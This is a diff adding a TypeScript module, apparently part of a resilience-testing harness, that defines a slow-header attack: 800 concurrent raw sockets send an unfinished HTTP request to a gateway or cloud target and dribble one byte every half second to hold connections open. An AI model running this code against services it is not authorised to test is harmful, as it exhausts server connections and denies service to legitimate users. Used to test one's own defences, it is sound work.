@@ -1,0 +1,30 @@
+/** Requests whose headers come a byte at a time and never end. */
+import type { Attack } from '../attack.ts';
+import { together } from '../hostile-context.ts';
+
+const attack: Attack = {
+  does: '800 requests whose headers come one byte every half second',
+  defence: { limits: [] },
+  async run(context) {
+    await together(context.scaled(800), async (number) => {
+      for (let attempt = 0; attempt < 200 && !context.signal.aborted; attempt++) {
+        const socket = context.raw(number % 4 === 3 ? context.cloud : context.gateway);
+        let isOpen = true;
+        socket.on('close', () => {
+          isOpen = false;
+        });
+        socket.on('end', () => socket.destroy());
+        socket.resume();
+        socket.write('GET /v1/stream HTTP/1.1\r\nHost: x\r\nX-Slow: ');
+        context.count();
+        while (isOpen && !context.signal.aborted) {
+          await context.pause(500);
+          socket.write('a');
+        }
+        await context.pause(500);
+      }
+    });
+  },
+};
+
+export default attack;
